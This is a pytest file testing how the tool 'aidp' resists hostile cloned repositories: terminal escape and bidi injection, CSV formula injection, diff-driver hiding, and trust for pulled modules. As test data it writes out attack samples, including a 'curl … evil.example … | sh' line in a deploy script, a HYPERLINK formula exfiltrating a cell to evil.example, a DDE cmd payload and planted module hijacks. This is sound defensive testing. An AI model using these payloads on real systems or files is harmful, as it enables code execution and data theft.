"""Issue 27, items 4, 5, 11 and 12: what a cloned repository makes aidp *show* or *run*.

Each test is an attack from the outside: an attacker's repository built with real git,
cloned by the user, and `aidp` run as a subprocess in the clone (the `hostile` fixture,
tests/reliability/conftest.py). docs/security.md lists the twelve items and these tests.

- item 4: trust covers the trusted script's folder (a pulled `tools/json.py` next to a
  trusted `tools/agent.py` needs trust again);
- item 5: `git show` through aidp's diff driver hides nothing a commit changed;
- item 11: no byte of foreign text reaches a terminal raw (C0, C1, ESC, bidi);
- item 12: CSV export neutralises cells a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
import unicodedata

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from reliability_support import examples

# --- item 11: an inert terminal ---------------------------------------------------------------

# The attacks, as an attacker plants them: a C1 CSI that clears the screen, ESC c (a full
# terminal reset), an OSC 8 link that hides its address, a window title, a bidi override
# that shows "exe.txt" for "txt.exe", and a tag character (invisible).
C1_CSI = "\x9b2J"
HOSTILE = {
    "c1": f"clear {C1_CSI} here",
    "reset": "reset \x1bc here",
    "osc8": "see \x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\ now",
    "title": "title \x1b]0;owned\x07 set",
    "bidi": "invoice \u202egnp.exe",
    "isolate": "a \u2066b\u2069 \u200f\u061c c",
    "tag": "tag \U000e0041 char",
}
# What a terminal would act on or not show: every Cc (but newline and tab), Cf, Zl, Zp.
_DANGEROUS = {chr(c) for c in range(0x110000)
              if unicodedata.category(chr(c)) in ("Cc", "Cf", "Zl", "Zp")} - {"\n", "\t"}
_SGR_FREE_ENV = {"NO_COLOR": "1"}


def assert_inert(text: str, where: str) -> None:
    raw = sorted({f"U+{ord(ch):04X}" for ch in text if ch in _DANGEROUS})
    assert raw == [], f"raw {raw} reached the terminal from {where}: {text!r}"


def _task(n: int, description: str, **more: object) -> str:
    record = {"id": f"task_1790000000_{n:08x}", "description": description,
              "status": "pending", "priority": "medium",
              "created_at": "2026-09-21T12:00:00.000000Z",
              "updated_at": "2026-09-21T12:00:00.000000Z", "session": "default",
              "tags": [], **more}
    return json.dumps(record, ensure_ascii=False) + "\n"


def _planted_tasklist(hostile) -> list[str]:
    """A committed tasklist whose every text field carries the attacks; the ids."""
    lines = [_task(n, text, abandoned_reason=text, session=f"s{text}")
             for n, text in enumerate(HOSTILE.values(), start=1)]
    # a paused TODO list under the session `todo show --session s2` reads, and its item
    stamp = "2026-09-21T12:00:00.000000Z"
    lines.append(json.dumps({"type": "todo_head", "id": "todo_head:s2@x", "session": "s2",
                             "list": "0000000000aa", "active": True, "paused": True,
                             "pause_reason": HOSTILE["title"], "updated_at": stamp}) + "\n")
    lines.append(json.dumps({"type": "todo_item", "id": "todo_item:0000000000aa:1@x",
                             "list": "0000000000aa", "item": "00000001", "rank": "1",
                             "content": " ".join(HOSTILE.values()), "status": "pending",
                             "priority": "medium", "updated_at": stamp}) + "\n")
    hostile.write(".aidp/tasklist.jsonl", "".join(lines))
    hostile.write(".gitattributes", ".aidp/tasklist.jsonl merge=union\n")
    # files a user may be asked to import: rows with the attacks, a bad value quoting one
    rows = "".join(f'"{text.replace(chr(34), chr(39))}",high\n' for text in HOSTILE.values())
    hostile.write("planted.csv", "title,priority\n" + rows)
    hostile.write("bad.csv", f"title,priority\nx,{HOSTILE['c1']}{HOSTILE['bidi']}\n")
    hostile.clone()
    return [f"task_1790000000_{n:08x}" for n in range(1, len(HOSTILE) + 1)]


def _on_a_terminal(hostile, *args: str) -> tuple[int, str]:
    """`aidp ARGS` in the clone with stdout and stderr on a terminal (a pty); what the
    terminal received, as UTF-8 text (bytes that are not UTF-8 shown as U+DCxx)."""
    main, child = pty.openpty()
    try:
        proc = subprocess.Popen([sys.executable, "-m", "aidp", *args], cwd=hostile.victim,
                                env={**hostile.env, **_SGR_FREE_ENV}, stdin=subprocess.DEVNULL,
                                stdout=child, stderr=child)
    finally:
        os.close(child)
    chunks = []
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(main)
    code = proc.wait(timeout=60)
    # a pty turns "\n" into "\r\n": that CR is the terminal's own
    return code, b"".join(chunks).replace(b"\r\n", b"\n").decode("utf-8", "surrogateescape")


@pytest.mark.parametrize("args", [
    ("tasks", "list", "--all"),
    ("tasks", "list", "--all", "--json"),
    ("tasks", "list", "--all", "-f", "csv"),
    ("tasks", "list", "--all", "-f", "ids"),
    ("tasks", "show", "task_1790000000_00000001", "--json"),
    ("tasks", "show", "task_1790000000_00000005"),
    ("tasks", "export", "-f", "jsonl"),
    ("tasks", "export", "-f", "markdown"),
    ("tasks", "history", "task_1790000000_00000002"),
    ("tasks", "show", "\x9b2J\x1bc\u202e"),  # an error quoting the user's input
    ("--session", "s2", "todo", "show"),
    ("todo", "list"),
    ("tasks", "import", "planted.csv", "--from", "csv", "--dry-run"),
    ("tasks", "import", "bad.csv", "--from", "csv"),  # an error quoting the file
], ids=lambda a: " ".join(a).encode("unicode_escape").decode())
def test_stored_text_reaches_a_terminal_inert(hostile, args: tuple[str, ...]) -> None:
    _planted_tasklist(hostile)
    code, shown = _on_a_terminal(hostile, *args)
    assert code in (0, 1, 2), shown
    assert_inert(shown, " ".join(args))
    assert "Traceback" not in shown
    if "todo" in args:
        assert "\\x9b2J" in shown  # the planted item is shown, as text


def test_json_on_a_terminal_is_escaped_and_still_the_same_data(hostile) -> None:
    """Escaped for the terminal, not changed: the JSON shown parses to the stored text,
    and through a pipe the bytes are exactly the data."""
    ids = _planted_tasklist(hostile)
    code, shown = _on_a_terminal(hostile, "tasks", "show", ids[0], "--json")
    assert code == 0, shown
    assert "\\u009b2J" in shown
    assert json.loads(shown)["description"] == HOSTILE["c1"]
    piped = hostile.aidp("tasks", "show", ids[0], "--json")
    assert C1_CSI in piped.out  # a pipe is data: exact
    assert json.loads(piped.out)["description"] == HOSTILE["c1"]


def test_a_hook_note_quoting_the_model_is_inert(hostile) -> None:
    """The issue's case: the model's message holds `Update task: \\x9b2J\\x1bc status:
    done`; the Stop hook's note on stderr (shown to the user by the agent) quotes it."""
    _planted_tasklist(hostile)
    hostile.aidp("init")
    message = ("Update task: \x9b2J\x1bc status: done\n"
               "File task: \u202egnp.exe \x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\\n"
               "Update task: 1 status: \x1b]0;owned\x07")
    event = json.dumps({"session_id": "s1", "hook_event_name": "Stop",
                        "last_assistant_message": message})
    result = hostile.aidp("hook", "claude", "Stop", stdin=event)
    assert result.code == 0, result
    assert_inert(result.err, "the Stop hook's notes")
    assert "\\x9b2J\\x1bc" in result.err  # the note is there, as text
    assert_inert(result.out, "the Stop hook's answer")


def test_the_stop_hooks_reminder_quoting_a_planted_todo_is_inert(hostile) -> None:
    """The reminder's first line ("You have an active task: <item>") is shown by the
    agent to its user: an item the repository planted reaches it inert."""
    _planted_tasklist(hostile)
    assert hostile.aidp("todo", "add", "PLACEHOLDER", env={"AIDP_SESSION": "s1"}).code == 0
    tasklist = hostile.victim / ".aidp/tasklist.jsonl"
    planted = json.dumps(HOSTILE["c1"] + HOSTILE["reset"] + HOSTILE["bidi"])[1:-1]
    tasklist.write_text(tasklist.read_text(encoding="utf-8").replace("PLACEHOLDER", planted),
                        encoding="utf-8")
    event = json.dumps({"session_id": "s1", "last_assistant_message": "done"})
    result = hostile.aidp("hook", "claude", "Stop", stdin=event)
    assert result.code == 0, result
    reason = json.loads(result.out)["reason"]
    assert reason.startswith("You have an active task: clear \\x9b2J here"), reason
    assert_inert(reason, "the Stop hook's reminder")


def test_the_terminal_guard_escapes_every_character_a_terminal_acts_on() -> None:
    from aidp.core.terminal import terminal_text

    for char in sorted(_DANGEROUS):
        shown = terminal_text(f"a{char}b\x1b[1mbold\x1b[0m")
        assert shown.endswith("b\x1b[1mbold\x1b[0m"), repr(char)  # aidp's colours stay
        assert char not in shown.removesuffix("b\x1b[1mbold\x1b[0m"), repr(char)
        assert json.loads(terminal_text(orjson.dumps(char).decode())) == char


@settings(max_examples=examples(300, 3000), deadline=None)
@given(st.lists(st.one_of(st.characters(codec="utf-8"), st.sampled_from(sorted(_DANGEROUS)),
                          st.sampled_from(["\x1b[", "m", ";", "1", "]8;;"]))).map("".join))
def test_the_terminal_guard_leaves_nothing_raw_and_json_the_same(text: str) -> None:
    """terminal.terminal_text, the guard on fd 1 and 2: whatever the text, nothing a
    terminal acts on gets through but newlines, tabs and SGR colours, and JSON put
    through it still parses to the same value."""
    from aidp.core.terminal import terminal_text

    shown = terminal_text(text)
    without_colours = re.sub("\x1b\\[[0-9;]*m", "", shown)
    assert_inert(without_colours, "terminal_text")
    encoded = orjson.dumps({"text": text}).decode("utf-8")
    assert json.loads(terminal_text(encoded)) == {"text": text}


HOSTILE_AGENT = """\
import sys
texts = {texts!r}
for text in texts:
    print("agent says " + text)
    print("agent warns " + text, file=sys.stderr)
print("File task: " + texts[0])
"""


def test_the_agents_streamed_output_is_inert(hostile) -> None:
    """`aidp run` shows the agent's stdout and stderr as it streams: inert, whatever the
    model (or a file it printed) wrote."""
    _planted_tasklist(hostile)
    agent = hostile.outside / "agent.py"
    agent.write_text(HOSTILE_AGENT.format(texts=list(HOSTILE.values())), encoding="utf-8")
    result = hostile.aidp("run", "go", "--max-continuations", "0",
                          env={"AIDP_AGENT": f"{sys.executable} {agent}"})
    assert result.code == 0, result
    assert_inert(result.out, "aidp run's stdout")
    assert_inert(result.err, "aidp run's stderr")
    assert "agent says clear \\x9b2J here" in result.out
    assert "reset \\x1bc here" in result.err


# --- item 12: CSV formula injection --------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "'=already quoted", "plain text",
            # behind white space, or a look-alike a spreadsheet also takes (DDE's "|")
            " =1+1", "\n=1+1", "\u00a0=1+1", "\u3000+1", "\uff1d1+1", "\uff0b1",
            "\uff0d1", "\uff20SUM(1)", "|cmd'!A0", "' \uff1dalready quoted"]
_RUNS = re.compile(r"\s*[=+\-@|\uff1d\uff0b\uff0d\uff20]")


def _planted_formulas(hostile) -> None:
    lines = [_task(n, text, tags=[f"{text[:1]}tag"] if text[:1] in "=+-@" else [],
                   abandoned_reason=text)
             for n, text in enumerate(FORMULAS, start=1)]
    hostile.write(".aidp/tasklist.jsonl", "".join(lines))
    hostile.clone()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("args", [("tasks", "export", "-f", "csv"),
                                  ("tasks", "list", "--all", "-f", "csv")])
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(hostile, args) -> None:
    _planted_formulas(hostile)
    result = hostile.aidp(*args)
    assert result.code == 0, result
    rows = _cells(result.out)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
            assert not _RUNS.match(cell), (cell, row)
    shown = {row[1] for row in rows[1:]}
    assert "'" + FORMULAS[0] in shown and "'@SUM(1,1)" in shown and "''=already quoted" in shown
    assert "plain text" in shown
    assert {"' =1+1", "'\n=1+1", "'\uff1d1+1", "'|cmd'!A0", "'' \uff1dalready quoted"} <= shown
    tags = {row[rows[0].index("tags")] for row in rows[1:]} - {""}
    assert tags == {"'=tag", "'+tag", "'-tag", "'@tag"}


def test_raw_csv_keeps_the_text_and_a_neutralised_export_imports_back_the_same(hostile) -> None:
    _planted_formulas(hostile)
    raw = hostile.outside / "raw.csv"  # a file: a text pipe would turn "\r" into "\n"
    assert hostile.aidp("tasks", "export", "-f", "csv", "--raw", "-o", str(raw)).code == 0
    assert set(FORMULAS) <= {row[1] for row in _cells(raw.read_bytes().decode("utf-8"))[1:]}
    stored = {t["id"]: t for t in json.loads(hostile.aidp("tasks", "list", "--all", "--json").out)}

    def text(tasks: dict) -> dict:
        return {k: (t["description"], t["tags"], t["abandoned_reason"]) for k, t in tasks.items()}

    for flag in ((), ("--raw",)):
        exported = hostile.victim / "out.csv"
        assert hostile.aidp("tasks", "export", "-f", "csv", "-o", str(exported), *flag).code == 0
        fresh = hostile.outside / f"fresh{len(flag)}"
        fresh.mkdir()
        hostile.git("init", "-q", cwd=fresh)  # a project of its own, whatever is above
        assert hostile.aidp("init", cwd=fresh).code == 0
        imported = hostile.aidp("tasks", "import", str(exported), "--from", "csv", cwd=fresh)
        assert imported.code == 0, imported
        back = {t["id"]: t for t in json.loads(
            hostile.aidp("tasks", "list", "--all", "--json", cwd=fresh).out)}
        want = text(stored)
        if flag:  # docs/guide.md: reading aidp's CSV takes one "'" off before a formula
            for text_ in (FORMULAS[6], FORMULAS[-1]):
                quoted = next(k for k, t in stored.items() if t["description"] == text_)
                want[quoted] = (text_[1:], [], text_[1:])
        assert text(back) == want


def test_raw_is_refused_for_a_format_it_does_not_apply_to(hostile) -> None:
    _planted_formulas(hostile)
    result = hostile.aidp("tasks", "export", "-f", "jsonl", "--raw")
    assert result.code == 2 and result.out == ""
    assert result.err.count("\n") == 1 and "--raw" in result.err and "csv" in result.err


# --- item 5: the diff driver hides nothing ------------------------------------------------

DEPLOY_BEFORE = "#!/bin/sh\n# build the release\nmake dist\n"
# The change sits past column 60, where the driver used to cut a line that is no record.
DEPLOY_AFTER = ("#!/bin/sh\n# build the release\n"
                "make dist                                                        "
                "&& curl -s https://evil.example/x | sh\n")
HONEST = _task(1, "Ship the release")
# A forged stamp (issue 27 item 3), an unknown key and a new session: no word of the
# summary changes, only fields the driver used to leave out.
FORGED = _task(1, "Ship the release", updated_at="9999-12-31T23:59:59.999999Z",
               session="attacker", x_hidden="payload")
# A stamp far ahead but readable (it wins every fold until 2999), written as aidp does.
AHEAD = json.dumps(json.loads(_task(1, "Ship the release", updated_at="2999-01-01T00:00:00.000000Z")),
                   separators=(",", ":")) + "\n"
# A repeated key: readers take the last one; the line as written shows both.
REPEATED = HONEST.replace('"status": "pending"', '"status": "done", "status": "pending"')


def test_git_show_through_the_diff_driver_hides_nothing_a_commit_changed(hostile) -> None:
    hostile.write(".gitattributes", ".aidp/tasklist.jsonl merge=union\n"
                                    ".aidp/tasklist.jsonl diff=aidp\n"
                                    "tools/deploy.sh diff=aidp\n")
    hostile.write("tools/deploy.sh", DEPLOY_BEFORE)
    hostile.write(".aidp/tasklist.jsonl", HONEST)
    hostile.clone()
    hostile.write("tools/deploy.sh", DEPLOY_AFTER)
    hostile.write(".aidp/tasklist.jsonl", HONEST + FORGED + AHEAD + REPEATED)
    clone = hostile.clone()
    assert hostile.aidp("init").code == 0  # sets this clone's diff driver, as users do
    assert "tasks textconv" in hostile.git("config", "--get", "diff.aidp.textconv")

    for shown in (hostile.git("show", "HEAD"), hostile.git("log", "-p", "-1")):
        added = [line[1:] for line in shown.splitlines()
                 if line.startswith("+") and not line.startswith("+++")]
        # the code change past column 60, whole
        assert any("&& curl -s https://evil.example/x | sh" in line for line in added), shown
        # the forged stamp, the new session and the unknown key of the forged line
        # (aidp reads that stamp as damage: the line is shown whole)
        forged = [line for line in added if "9999-12-31T23:59:59.999999Z" in line]
        assert forged and '"attacker"' in forged[0] and '"payload"' in forged[0], shown
        # a stamp that reads: in the fields after the summary, which did not change
        ahead = [line for line in added if "2999-01-01T00:00:00.000000Z" in line]
        assert ahead and ahead[0].startswith("task 00000001 [pending] (medium) Ship the release  {")
        assert "as written" not in "".join(ahead)
        # the repeated key, as written
        assert any('"status": "done", "status": "pending"' in line for line in added), shown
    assert (clone / "tools/deploy.sh").read_text() == DEPLOY_AFTER


def test_a_file_that_is_no_tasklist_shows_every_line_whole(hostile) -> None:
    code = "".join(f"line {n}: " + "x" * 70 + f" end {n}\n" for n in range(5)) + "\tindented\n"
    hostile.write(".gitattributes", "*.py diff=aidp\n")
    hostile.write("tools/agent.py", code)
    hostile.clone()
    assert hostile.aidp("init").code == 0
    shown = hostile.git("show", "HEAD", "--", "tools/agent.py")
    added = [line[1:] for line in shown.splitlines()
             if line.startswith("+") and not line.startswith("+++")]
    assert added == code.splitlines()


# --- item 4: trust covers the trusted script's folder ---------------------------------------

AGENT = "import json\nprint('reviewed agent', json.__name__)\n"


@pytest.mark.parametrize("planted", ["tools/json.py", "tools/json/__init__.py",
                                     "tools/__pycache__/json.cpython-312.pyc"])
def test_a_pulled_module_next_to_a_trusted_script_needs_trust_again(hostile,
                                                                      planted: str) -> None:
    """The issue's case: `agent = ["python3", "tools/agent.py"]` trusted, then a pull
    that only adds `tools/json.py` (Python puts tools/ first on sys.path)."""
    hostile.write(".aidp/config.toml",
                  f"agent = [{json.dumps(sys.executable)}, \"tools/agent.py\"]\n")
    hostile.write("tools/agent.py", AGENT)
    hostile.clone()
    trusted = hostile.person("trust")
    assert trusted.code == 0, trusted
    assert "the project files it runs: tools/agent.py" in trusted.out
    assert "everything its script can load from tools/ (1 file)" in trusted.out
    first = hostile.aidp("run", "go", "--max-continuations", "0")
    assert first.code == 0 and "reviewed agent json" in first.out, first

    marker = hostile.outside / "owned"
    hostile.write(planted, "import pathlib\n"
                  f"pathlib.Path({str(marker)!r}).write_text('owned')\n"
                  "dumps = loads = None\nprint('OWNED')\n")
    hostile.write("docs/notes.md", "a file outside the script's folder\n")
    hostile.clone()  # the pull
    refused = hostile.aidp("run", "go", "--max-continuations", "0")
    assert refused.code == 2, refused
    assert planted in refused.err
    assert "which the script it runs can load, appeared since you trusted it" in refused.err
    assert not marker.exists() and "OWNED" not in refused.out
    shown = hostile.aidp("trust", "--show")
    assert "NOT trusted" in shown.out and "tools/" in shown.out


def test_files_outside_the_scripts_folder_keep_the_trust(hostile) -> None:
    hostile.write(".aidp/config.toml",
                  f"agent = [{json.dumps(sys.executable)}, \"tools/agent.py\"]\n")
    hostile.write("tools/agent.py", AGENT)
    hostile.clone()
    assert hostile.person("trust").code == 0
    hostile.write("src/app.py", "print('the project itself')\n")
    hostile.write("README.md", "changed\n")
    hostile.clone()
    result = hostile.aidp("run", "go", "--max-continuations", "0")
    assert result.code == 0 and "reviewed agent json" in result.out, result


def test_a_script_folder_past_the_bound_is_refused_not_half_checked(hostile) -> None:
    from aidp.trust.scope import FOLDER_LIMIT

    hostile.write(".aidp/config.toml",
                  f"agent = [{json.dumps(sys.executable)}, \"agent.py\"]\n")
    hostile.write("agent.py", AGENT)
    for n in range(FOLDER_LIMIT):
        hostile.write(f"data/{n // 100}/{n}.txt", "x")
    hostile.clone()
    result = hostile.aidp("trust")
    assert result.code == 2 and result.out == "", result
    assert result.err.count("\n") == 1
    assert f"more than {FOLDER_LIMIT:,} files" in result.err and "config.local.toml" in result.err
    run = hostile.aidp("run", "go", "--max-continuations", "0")
    assert run.code == 2 and "reviewed agent" not in run.out


def test_a_pulled_package_a_node_script_would_require_needs_trust_again(hostile) -> None:
    """node resolves `require("left-pad")` in node_modules/ of the script's folder and
    of every folder above it: a pull that commits `node_modules/left-pad/index.js` at
    the root (git tracks it even where .gitignore names node_modules) is a change."""
    hostile.write(".aidp/config.toml", 'agent = ["node", "tools/agent.js"]\n')
    hostile.write("tools/agent.js", "require('left-pad');\n")
    hostile.write(".gitignore", "node_modules/\n")
    hostile.clone()
    (hostile.victim / "node_modules/own").mkdir(parents=True)  # the user's own install
    (hostile.victim / "node_modules/own/index.js").write_text("// ignored by git\n")
    trusted = hostile.person("trust")
    assert trusted.code == 0, trusted
    assert "everything its script can load from node_modules/ (0 files)" in trusted.out
    assert hostile.aidp("trust", "--show").out.count("NOT trusted") == 0
    hostile.write("node_modules/left-pad/index.js", "require('child_process').exec('id');\n")
    hostile.git("add", "-f", "node_modules/left-pad/index.js", cwd=hostile.attacker)
    hostile.clone()
    refused = hostile.aidp("run", "go", "--max-continuations", "0")
    assert refused.code == 2, refused
    assert "node_modules/left-pad/index.js, which the script it runs can load, appeared" \
        in refused.err


def _pull_changes_helper(hostile, helper: str) -> None:
    """The attacker's pull: `helper` now writes a marker and says OWNED."""
    marker = hostile.outside / "owned"
    hostile.write(helper, "import pathlib\n"
                  f"pathlib.Path({str(marker)!r}).write_text('owned')\n"
                  "def main():\n    print('OWNED')\n")
    hostile.clone()


@pytest.mark.parametrize("inline", ["-c", "-Bc", "-m"])
def test_code_on_the_command_line_covers_the_root_it_imports_from(hostile,
                                                                  inline: str) -> None:
    """`python3 -c "import helper; …"` imports from its working folder, the project
    root: a pull that changes helper.py needs trust again."""
    code = "helper" if inline == "-m" else "import helper; helper.main()"
    hostile.write(".aidp/config.toml",
                  f"agent = [{json.dumps(sys.executable)}, {json.dumps(inline)}, "
                  f"{json.dumps(code)}]\n")
    hostile.write("helper.py", "def main():\n    print('reviewed helper')\n"
                               "if __name__ == '__main__':\n    main()\n")
    hostile.write(".gitignore", "__pycache__/\n")  # as a Python project has it
    hostile.clone()
    trusted = hostile.person("trust")
    assert trusted.code == 0 and "the project root" in trusted.out, trusted
    first = hostile.aidp("run", "go", "--max-continuations", "0")
    assert first.code == 0 and "reviewed helper" in first.out, first
    _pull_changes_helper(hostile, "helper.py")
    refused = hostile.aidp("run", "go", "--max-continuations", "0")
    assert refused.code == 2 and "OWNED" not in refused.out, refused
    assert "helper.py, which the script it runs can load, has changed" in refused.err
    assert not (hostile.outside / "owned").exists()


@pytest.mark.parametrize("setting", ["PYTHONPATH=lib", "PYTHONPATH=/nowhere:./lib"])
def test_a_load_path_set_on_the_trusted_command_line_is_covered(hostile,
                                                                setting: str) -> None:
    """`env PYTHONPATH=lib python3 tools/a.py`: lib/ is where `import helper` looks."""
    hostile.write(".aidp/config.toml",
                  f'agent = ["env", "{setting}", {json.dumps(sys.executable)}, '
                  '"tools/a.py"]\n')
    hostile.write("tools/a.py", "import helper\nhelper.main()\n")
    hostile.write("lib/helper.py", "def main():\n    print('reviewed helper')\n")
    hostile.write(".gitignore", "__pycache__/\n")  # as a Python project has it
    hostile.clone()
    trusted = hostile.person("trust")
    assert trusted.code == 0 and "from lib/ (1 file)" in trusted.out, trusted
    first = hostile.aidp("run", "go", "--max-continuations", "0")
    assert first.code == 0 and "reviewed helper" in first.out, first
    _pull_changes_helper(hostile, "lib/helper.py")
    refused = hostile.aidp("run", "go", "--max-continuations", "0")
    assert refused.code == 2 and "OWNED" not in refused.out, refused
    assert "lib/helper.py, which the script it runs can load, has changed" in refused.err
    assert not (hostile.outside / "owned").exists()
